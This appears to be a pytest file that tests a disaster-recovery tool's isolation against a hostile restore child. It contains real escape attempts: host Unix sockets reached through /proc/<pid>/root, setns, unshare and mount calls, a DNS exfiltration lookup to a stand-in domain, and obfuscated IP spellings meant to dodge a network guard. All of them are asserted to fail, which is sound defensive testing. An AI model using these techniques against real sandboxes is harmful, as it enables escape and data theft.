"""Issue 25, attack 6: escapes from a rehearsal's isolation, tried the way a hostile restore child would.

Each test runs the escape for real: a child process started inside ``isolate("netns", ...)`` (the very block a
rehearsal's restore runs in, with its network namespace, relays and witness), a real resolver relay in a
real namespace, or a real connection under the in-process guard. No server of the lab is started: these
stay in the fast tier.
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import dns.message
import dns.query
import dns.rcode
import dns.rdatatype
import pytest

from drtool.independence.domain import FailureDomain
from drtool.rehearsal import netns
from drtool.rehearsal.guard import NetworkGuard
from drtool.rehearsal.isolation import isolate
from drtool.rehearsal.relay import DnsRelay, TcpRelay
from tests.fixtures.kube import wait_for

SECRET = "the-host-only-secret-4f1c"
needs_netns = pytest.mark.skipif(netns.available() is not None, reason=f"no namespaces here: {netns.available()}")


def child(code: str) -> subprocess.CompletedProcess[str]:
    """A restore child: a program the restore starts, here a Python one that tries the escape."""
    return subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=30)


def serve(server: socket.socket, reply: bytes) -> None:
    """Answer every connection with ``reply`` on a thread of the host (the test's own: outside the namespace)."""

    def run() -> None:
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            with conn:
                conn.sendall(reply)

    threading.Thread(target=run, daemon=True).start()


@pytest.fixture
def unix_secret(tmp_path: Path) -> Iterator[Path]:
    """A Unix socket on the host's filesystem that hands a secret to whoever connects."""
    path = tmp_path / "host-agent.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    server.listen()
    serve(server, SECRET.encode())
    yield path
    server.close()


@needs_netns
def test_a_restore_child_cannot_read_a_unix_socket_on_the_host(unix_secret: Path, tmp_path: Path) -> None:
    """Directly, and through drtool's own /proc/<pid>/root (the host's mount namespace): refused. A socket the
    rehearsal needs (a catalog's: ``reachable_endpoints``) stays in reach."""
    guard = NetworkGuard(FailureDomain({}).is_inside)
    catalog = socket.socket(socket.AF_UNIX)
    catalog.bind(str(tmp_path / ".s.PGSQL.5432"))
    catalog.listen()
    serve(catalog, b"catalog")
    ways = [str(unix_secret), f"/proc/{os.getpid()}/root{unix_secret}", f"/proc/1/root{unix_secret}"]
    code = f"""
import socket
for path in {ways!r}:
    try:
        s = socket.socket(socket.AF_UNIX)
        s.connect(path)
        print("read", path, s.recv(100).decode())
    except OSError as exc:
        print("refused", path, exc)
"""
    needed = f"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{catalog.getsockname()}'); print(s.recv(9))"
    with isolate("netns", FailureDomain({}), guard, [f"{tmp_path}/.s.PGSQL.5432"]) as isolation:
        assert isolation.mode == "netns"
        attempt, kept = child(code), child(needed)
    catalog.close()
    assert kept.stdout.strip() == "b'catalog'", kept.stderr
    assert SECRET not in attempt.stdout, attempt.stdout
    assert [line.split()[0] for line in attempt.stdout.splitlines()] == ["refused"] * len(ways), attempt
    with socket.socket(socket.AF_UNIX) as s:  # drtool, back on the host, still reaches it
        s.connect(str(unix_secret))
        assert s.recv(100).decode() == SECRET


@needs_netns
def test_a_restore_child_cannot_setns_into_drtools_namespace_mount_or_reach_the_host() -> None:
    """setns into every network namespace drtool's threads and PID 1 are in fails, so do unshare and mount; the
    child holds no capability; its TCP to a host port stays in the namespace, where the witness sees it."""
    host = socket.create_server(("127.0.0.1", 0))
    port = host.getsockname()[1]
    serve(host, SECRET.encode())
    domain = FailureDomain({"lab_source_endpoints": [f"127.0.0.1:{port}"]})
    guard = NetworkGuard(domain.is_inside)
    code = f"""
import ctypes, glob, os, socket
libc = ctypes.CDLL(None, use_errno=True)
caps = [l for l in open("/proc/self/status") if l.startswith("CapEff")][0].split()[1]
print("effective capabilities", caps)
def reach(where):
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=5) as s:
            print("reached the host from", where, s.recv(100).decode())
    except OSError as exc:
        print("tcp refused from", where, exc)
for ns in ["/proc/1/ns/net", "/proc/{os.getpid()}/ns/net", *glob.glob("/proc/{os.getpid()}/task/*/ns/net")]:
    try:
        fd = os.open(ns, os.O_RDONLY)
        if libc.setns(fd, 0x40000000) == 0:
            print("entered", ns)
            reach(ns)
        else:
            print("setns refused", ns)
    except OSError as exc:
        print("open refused", ns, exc.errno)
reach("where it was started")
for flag in (0x40000000, 0x00020000):  # CLONE_NEWNET, CLONE_NEWNS
    print("unshare", flag, "refused" if libc.unshare(flag) else "done")
print("mount", "refused" if libc.mount(b"none", b"/mnt", b"tmpfs", 0, None) else "done")
"""
    cwd = os.getcwd()
    with isolate("netns", domain, guard) as isolation, guard:
        attempt = child(code)
        recorded = lambda: (f"127.0.0.1:{port}", "namespace") in {(r.address, r.by) for r in guard.refused}  # noqa: E731
        wait_for(recorded, "the witness's record of the child's TCP attempt")  # it reads the wire on its own thread
    host.close()
    after = child("print([l for l in open('/proc/self/status') if l.startswith('CapEff')][0].split()[1])")
    assert int(after.stdout, 16) != 0 and os.getcwd() == cwd  # drtool's thread is itself again afterwards
    out = attempt.stdout
    assert attempt.returncode == 0, attempt.stderr
    assert "entered" not in out and SECRET not in out and "done" not in out, out
    assert "effective capabilities 0000000000000000" in out and "tcp refused from where it was started" in out, out
    assert (f"127.0.0.1:{port}", "namespace") in {(r.address, r.by) for r in guard.refused}, isolation


@pytest.fixture
def upstream() -> Iterator[tuple[str, list[str]]]:
    """A nameserver on the host that notes every query it gets and answers each one (10.9.9.9). Port 53 (a
    resolver has no port), on the first loopback address no other run of this test holds."""
    asked: list[str] = []
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for last in range(77, 255):
        address = f"127.0.53.{last}"
        try:
            server.bind((address, 53))
            break
        except OSError:
            continue
    else:
        pytest.fail("no free loopback address for port 53 in 127.0.53.77-254")

    def run() -> None:
        while True:
            try:
                data, client = server.recvfrom(4096)
            except OSError:
                return
            query = dns.message.from_wire(data)
            asked.append(str(query.question[0].name))
            reply = dns.message.make_response(query)
            reply.answer.append(dns.rrset.from_text(query.question[0].name, 60, "IN", "A", "10.9.9.9"))
            server.sendto(reply.to_wire(), client)

    threading.Thread(target=run, daemon=True).start()
    yield address, asked
    server.close()


@needs_netns
def test_the_namespace_resolver_forwards_nothing_and_answers_only_what_the_rehearsal_needs(
    upstream: tuple[str, list[str]],
) -> None:
    """A lookup of an outside name (a way to carry data out, or to find a host to reach) is refused without
    reaching the nameserver; an in-domain name is refused and recorded; a relayed endpoint's name is answered."""
    server, asked = upstream
    domain = FailureDomain({"cluster_dns_suffixes": ["cluster.local"]})
    recorded, noted = [], []
    before = frozenset(threading.enumerate())
    with netns.namespace() as name:
        relay = DnsRelay(name, server, [], domain.is_inside, lambda n, why: recorded.append(n))
        relay.names = {"store.example.net": ["10.1.2.3"]}  # what isolate() hands it: the relayed endpoints' names
        relay.note = noted.append

        def ask(qname: str, kind: str = "A") -> dns.message.Message:
            query = dns.message.make_query(qname, kind)
            return netns.in_namespace(name, lambda: dns.query.udp(query, server, timeout=3))

        outside = ask("c2vjcmv0.exfil.example.org")
        inside = ask("vault.vault.svc.cluster.local")
        needed, needed6 = ask("store.example.net"), ask("store.example.net", "AAAA")
        relay.close()
        wait_for(lambda: not relay_threads(before), "the resolver relay's thread ends when closed", timeout=10)
    assert asked == [], f"forwarded upstream: {asked}"
    assert outside.rcode() == dns.rcode.REFUSED and inside.rcode() == dns.rcode.REFUSED
    assert recorded == ["vault.vault.svc.cluster.local"] and noted == ["dns c2vjcmv0.exfil.example.org"]
    assert [r.to_text() for rrset in needed.answer for r in rrset] == ["10.1.2.3"]
    assert needed6.rcode() == dns.rcode.NOERROR and not needed6.answer


def relay_threads(before: frozenset[threading.Thread] = frozenset()) -> list[str]:
    """The relays' serving threads alive now that were not in ``before`` (another test's are not this one's)."""
    alive = set(threading.enumerate()) - before
    return [t.name for t in alive if t.name.startswith(("drtool-relay-", "drtool-dns-relay"))]


@needs_netns
def test_a_closed_tcp_relay_leaves_no_thread_behind() -> None:
    """Closing a socket does not wake a thread blocked in its ``accept`` on Linux: before the relays shut their
    sockets down first, every rehearsal run from Python left its relays' threads blocked for good (and a pytest
    worker carried them into later tests)."""
    before = frozenset(threading.enumerate())
    with socket.create_server(("127.0.0.1", 0)) as host, netns.namespace() as name:
        relay = TcpRelay(name, host.getsockname()[:2])
        assert relay_threads(before)
        relay.close()
        wait_for(lambda: not relay_threads(before), "the TCP relay's thread ends when it is closed", timeout=10)


@pytest.fixture
def loopback_servers() -> Iterator[tuple[int, int]]:
    """Two dual-stack servers on every local address: whatever spelling reaches one gets an answer."""
    servers = [socket.create_server(("", 0), family=socket.AF_INET6, dualstack_ipv6=True) for _ in range(2)]
    for server in servers:
        serve(server, b"reached")
    yield servers[0].getsockname()[1], servers[1].getsockname()[1]
    for server in servers:
        server.close()


# 127.0.0.2 in the domain, written the ways inet_aton and IPv6 read it; the local host under other names
SECOND = ["2130706434", "0x7f000002", "0177.0.0.2", "127.2", "127.0.2", "0x7f.0.0.2", "::ffff:127.0.0.2",
          "::ffff:7f00:2", "0:0:0:0:0:ffff:7f00:2"]  # fmt: skip
LOCAL = ["localhost", "LocalHost", "127.1", "2130706433", "0", "0.0.0.0", "", "::1", "::ffff:127.0.0.1", "::"]


@pytest.mark.parametrize("how", ["connect", "getaddrinfo"])
@pytest.mark.parametrize("spelling", [*(("second", s) for s in SECOND), *(("first", s) for s in LOCAL)], ids=str)
def test_the_guard_judges_every_spelling_of_an_address_as_the_one_it_reaches(
    loopback_servers: tuple[int, int], spelling: tuple[str, str], how: str
) -> None:
    which, host = spelling
    second_port, first_port = loopback_servers
    domain = FailureDomain({"etcd_endpoints": [f"127.0.0.2:{second_port}"], "lab_source_endpoints":
                            [f"127.0.0.1:{first_port}"]})  # fmt: skip
    port = second_port if which == "second" else first_port
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    guard = NetworkGuard(domain.is_inside)
    with guard, pytest.raises(ConnectionRefusedError, match="rehearsal network guard"):
        if how == "getaddrinfo":
            socket.getaddrinfo(host or None, port, family)
        else:
            with socket.socket(family) as s:
                s.settimeout(3)
                s.connect((host, port))
                pytest.fail(f"{host!r} reached the source: {s.recv(10)!r}")
    entry = f"127.0.0.{2 if which == 'second' else 1}:{port}"
    assert len(guard.refused) == 1 and f"same endpoint as {entry}" in guard.refused[0].reason, guard.refused


@pytest.mark.parametrize("host", ["167772165", "0xa000005", "012.0.0.5", "10.5", "10.0.5", "::ffff:10.0.0.5",
                                  "::ffff:a00:5"])  # fmt: skip
def test_the_guard_judges_numeric_forms_of_a_remote_address(host: str) -> None:
    domain = FailureDomain({"node_addresses": ["10.0.0.5"]})
    guard = NetworkGuard(domain.is_inside)
    with guard, pytest.raises(ConnectionRefusedError, match=r"10\.0\.0\.5:6443: same host as 10\.0\.0\.5"):
        socket.getaddrinfo(host, 6443)
    assert [r.address for r in guard.refused] == ["10.0.0.5:6443"]
